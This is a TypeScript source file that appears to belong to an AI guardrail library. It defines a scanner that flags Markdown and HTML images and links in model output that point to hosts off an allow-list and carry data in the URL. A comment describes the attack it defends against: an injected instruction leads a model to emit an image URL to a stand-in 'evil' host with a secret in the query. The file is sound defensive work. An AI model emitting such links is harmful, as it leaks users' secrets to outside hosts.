import { z } from 'zod';
import { defineScanner, type Finding } from '../types.js';

const options = z
  .object({
    /** Hosts links and images may point to; subdomains included. Empty: every external URL is off-list. */
    allowedDomains: z.array(z.string().min(1)).default([]),
    /** A query value at least this long counts as smuggled data. */
    longValue: z.number().int().positive().default(24),
  })
  .strict();

// Markdown images/links (inline and reference definitions) and HTML images: what a chat UI renders or fetches.
const MD_INLINE = /(!?)\[([^\]\n]{0,500})\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+"[^"]*")?\s*\)/gi;
const MD_REFDEF = /^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?(https?:\/\/\S+?)>?(?:[ \t]+"[^"]*")?[ \t]*$/gim;
const HTML_IMG = /<img\b[^>]*?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]+)[^>]*>/gi;

function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase();
  return allowed.some((d) => {
    const domain = d.toLowerCase().replace(/^\*\./, '');
    return h === domain || h.endsWith(`.${domain}`);
  });
}

/** Evidence that the URL carries data out: long or encoded query values, many parameters, or data in the path. */
function carriesData(url: URL, longValue: number): string | undefined {
  const values = [...url.searchParams.values()];
  if (values.some((v) => v.length >= longValue)) return 'a long query value';
  if (values.some((v) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(v) && /\d/.test(v) && /[A-Za-z]/.test(v)))
    return 'an encoded query value';
  if (values.length >= 5) return `${values.length} query parameters`;
  if (url.pathname.split('/').some((seg) => seg.length >= longValue * 2)) return 'a long path segment';
  return undefined;
}

/**
 * Markdown image and link exfiltration: an injected instruction makes the model emit `![x](https://evil/?q=<secret>)`,
 * and the chat UI fetches it with the data. Images to hosts off the allow-list score high (they load without a
 * click); links score high only when they carry data.
 */
export default defineScanner({
  id: 'exfiltration',
  directions: ['output'],
  kinds: ['exfiltration'],
  description: 'Markdown/HTML images and links to hosts off the allow-list, especially with data in the URL',
  options,
  create(opts) {
    const judge = (raw: string, image: boolean, start: number, end: number): Finding | undefined => {
      let url: URL;
      try {
        url = new URL(raw);
      } catch {
        return undefined; // not a URL after all: nothing a client could fetch
      }
      if (hostAllowed(url.hostname, opts.allowedDomains)) return undefined;
      const data = carriesData(url, opts.longValue);
      const score = image ? (data ? 0.98 : 0.8) : data ? 0.85 : 0.3;
      const what = image ? 'image' : 'link';
      return {
        scanner: 'exfiltration',
        kind: 'exfiltration',
        type: image ? 'markdown_image' : 'markdown_link',
        score,
        start,
        end,
        detail: `${what} to ${url.hostname} (not allow-listed)${data ? ` with ${data}` : ''}`,
      };
    };
    return (t) => {
      const text = t.original;
      if (!text.includes('http')) return [];
      const findings: Finding[] = [];
      const push = (f: Finding | undefined) => f && findings.push(f);
      // Each expression needs a literal the text may not have ("](", "]:", "<"): most answers with a URL in them
      // have no Markdown link or image at all, and then none of the three passes over the text runs.
      if (text.includes(']('))
        for (const m of text.matchAll(MD_INLINE))
          push(judge(m[3] ?? '', m[1] === '!', m.index, m.index + m[0].length));
      if (text.includes(']:')) {
        // Reference-style images (![x][ref]) make their definition an image; only needed once a definition is found.
        let imageRefs: Set<string> | undefined;
        for (const m of text.matchAll(MD_REFDEF)) {
          imageRefs ??= new Set(
            [...text.matchAll(/!\[[^\]\n]*\]\[([^\]\n]+)\]/g)].map((r) => (r[1] ?? '').toLowerCase()),
          );
          push(judge(m[2] ?? '', imageRefs.has((m[1] ?? '').toLowerCase()), m.index, m.index + m[0].length));
        }
      }
      if (text.includes('<'))
        for (const m of text.matchAll(HTML_IMG))
          push(judge(m[1] ?? '', true, m.index, m.index + m[0].length));
      return findings;
    };
  },
});
